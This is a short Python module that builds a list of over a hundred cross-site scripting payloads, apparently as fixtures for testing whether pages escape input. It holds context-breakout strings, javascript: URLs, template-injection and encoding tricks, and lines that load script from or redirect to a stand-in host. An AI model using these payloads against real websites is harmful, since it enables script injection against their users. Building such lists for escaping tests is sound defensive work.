"""Texts that would run as code, or break out of their place, where a page forgets to escape them."""

from __future__ import annotations

_TAGS = ("img", "svg", "video", "audio", "body", "iframe", "object", "embed", "details", "input", "marquee", "math")
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart")
_PLAIN = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//x.example>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "{% raw %}<b>{% endraw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003ealert(1)",
    "<\u200bscript>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "\u202egnp.exe",
    "<!--",
    "<![CDATA[",
    "<base href=//x.example>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
]
PAYLOADS = [
    *_PLAIN,
    *(f"<{tag} {event}=alert(1) src=x>" for tag in _TAGS for event in _EVENTS),
]
"""More than a hundred."""
